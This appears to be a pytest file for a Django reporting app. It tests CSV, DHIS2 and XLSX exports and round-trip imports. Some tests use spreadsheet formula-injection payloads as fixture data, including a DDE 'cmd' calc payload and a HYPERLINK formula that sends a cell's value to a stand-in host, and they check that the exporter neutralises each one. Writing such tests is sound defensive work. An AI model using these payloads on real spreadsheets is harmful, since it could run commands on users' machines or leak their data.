"""Exporting values, and files we export importing back unchanged."""

import csv
import json
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from phongtrao.catalog.models import ValueType
from phongtrao.core.models import AuditEvent
from phongtrao.reporting.models import DataValue
from phongtrao.reporting.transfer.commit import values_import
from phongtrao.reporting.transfer.export import export_request, export_write
from phongtrao.reporting.transfer.formats import EXTENSIONS, Format

pytestmark = pytest.mark.django_db


@pytest.fixture
def stored(form, bo_y, indicators, make_area):
    """Values of Bờ Y and of one of its residential areas for 2026."""
    area = make_area(bo_y, name="Thôn Một")
    rows = [
        ("SCHEMES_NEW", bo_y, "1240", "ghi chú"),
        ("EXPLOSIVES_SURRENDERED_KG", bo_y, "2.5", ""),
        ("FESTIVAL_EVENTS", area, "3", '=HYPERLINK("x")'),
    ]
    for code, unit, value, comment in rows:
        DataValue.objects.create(
            indicator=indicators[code], unit=unit, period="2026", value=value, number=value,
            comment=comment,
        )  # fmt: skip
    return area


def exported(fmt: Format, form_code: str | None = "TEST_YEARLY") -> str | bytes:
    request = export_request(unit_code="23377", period="2026", form_code=form_code)
    out = BytesIO() if fmt in (Format.XLSX, Format.HISTORY_XLSX) else StringIO()
    export_write(out, request, fmt)
    return out.getvalue()


def test_our_csv_lists_the_subtrees_values_with_machine_numbers(stored):
    rows = list(csv.reader(StringIO(exported(Format.CSV))))
    assert rows == [
        ["indicator", "unit", "period", "value", "comment"],
        ["EXPLOSIVES_SURRENDERED_KG", "23377", "2026", "2.5", ""],
        ["SCHEMES_NEW", "23377", "2026", "1240", "ghi chú"],
        ["FESTIVAL_EVENTS", stored.code, "2026", "3", '\'=HYPERLINK("x")'],
    ]


def test_our_csv_writes_three_decimals_so_they_do_not_read_as_thousands(stored):
    # given 1,234 kg stored
    DataValue.objects.filter(indicator__code="EXPLOSIVES_SURRENDERED_KG").update(
        value="1.234", number="1.234"
    )
    # when
    rows = list(csv.reader(StringIO(exported(Format.CSV))))
    # then "1.2340", which an import reads as 1,234 and never as 1.234 (one thousand ...)
    assert rows[1] == ["EXPLOSIVES_SURRENDERED_KG", "23377", "2026", "1.2340", ""]


def test_dhis2_json_is_a_data_value_set_with_our_codes(stored):
    data = json.loads(exported(Format.DHIS2_JSON))
    assert {k: data[k] for k in ("dataSet", "period", "orgUnit")} == {
        "dataSet": "TEST_YEARLY", "period": "2026", "orgUnit": "23377",
    }  # fmt: skip
    assert data["dataValues"][1] == {
        "dataElement": "SCHEMES_NEW", "period": "2026", "orgUnit": "23377", "value": "1240",
        "comment": "ghi chú",
    }  # fmt: skip


def test_dhis2_csv_has_dhis2s_columns_and_neutralised_comments(stored):
    rows = list(csv.reader(StringIO(exported(Format.DHIS2_CSV))))
    assert rows[0] == [
        "dataelement", "period", "orgunit", "catoptcombo", "attroptcombo", "value", "strby",
        "lstupd", "cmt",
    ]  # fmt: skip
    assert rows[3][:6] == ["FESTIVAL_EVENTS", "2026", stored.code, "", "", "3"]
    assert rows[3][8] == '\'=HYPERLINK("x")'


def test_the_xlsx_template_has_units_codes_validation_and_values(stored, bo_y):
    book = load_workbook(BytesIO(exported(Format.XLSX)))
    sheet = book["Số liệu"]
    codes = [c.value for c in sheet[2]]
    assert codes[:4] == ["unit", "unit_name", "period", "SCHEMES_MAINTAINED"]
    assert sheet.row_dimensions[2].hidden is True
    assert [sheet.cell(row, 1).value for row in (3, 4)] == ["23377", stored.code]
    assert sheet.cell(3, codes.index("SCHEMES_NEW") + 1).value == 1240
    rules = {(r.type, r.operator, r.formula1) for r in sheet.data_validations.dataValidation}
    assert ("whole", "greaterThanOrEqual", "0") in rules


def test_formula_looking_text_is_neutralised_in_xlsx(form, bo_y, indicators, make_area):
    make_area(bo_y, name="=cmd|' /C calc'!A0")
    sheet = load_workbook(BytesIO(exported(Format.XLSX)))["Số liệu"]
    assert sheet.cell(4, 2).value == "'=cmd|' /C calc'!A0"
    assert sheet.cell(4, 2).data_type == "s"


@pytest.mark.parametrize("fmt", list(Format))
def test_a_file_we_export_imports_back_unchanged(fmt, stored, tmp_path):
    # given an export and the state it was taken from
    path = tmp_path / f"export.{EXTENSIONS[fmt]}"
    content = exported(fmt)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    before = (list(DataValue.objects.values()), AuditEvent.objects.count())
    # when
    result = values_import(path=path, fmt=fmt)
    # then every value is ignored and nothing changed
    assert (result.imported, result.updated, result.ignored, result.problem_count) == (0, 0, 3, 0)
    assert (list(DataValue.objects.values()), AuditEvent.objects.count()) == before


def test_a_text_value_starting_with_a_formula_sign_is_neutralised(form, bo_y, indicators):
    indicator = indicators["SCHEMES_NEW"]
    indicator.value_type = ValueType.TEXT
    indicator.save()
    DataValue.objects.create(indicator=indicator, unit=bo_y, period="2026", value="+1 (mới)")
    rows = list(csv.reader(StringIO(exported(Format.CSV))))
    assert rows[1][3] == "'+1 (mới)"


def formulas(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would run."""
    book = load_workbook(BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


def test_a_hostile_indicator_name_reaches_the_xlsx_header_as_text(stored, indicators):
    # given an indicator renamed to a live formula by a commune administrator
    indicator = indicators["SCHEMES_NEW"]
    indicator.name = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
    indicator.unit_of_measure = ""
    indicator.save()
    # when the XLSX template is exported
    content = exported(Format.XLSX)
    # then no cell is a formula, and the header holds the name as text
    assert formulas(content) == []
    sheet = load_workbook(BytesIO(content))["Số liệu"]
    headers = [cell.value for cell in sheet[1]]
    assert "'" + indicator.name in headers


def test_a_hostile_user_name_is_neutralised_in_the_dhis2_csv(stored, make_user, bo_y):
    # given a value last saved by a user whose name starts with a formula sign
    user = make_user("-cmd", units=(bo_y,))
    DataValue.objects.filter(indicator__code="SCHEMES_NEW").update(updated_by=user)
    # when
    rows = list(csv.reader(StringIO(exported(Format.DHIS2_CSV))))
    # then
    assert [row[6] for row in rows[1:] if row[0] == "SCHEMES_NEW"] == ["'-cmd"]
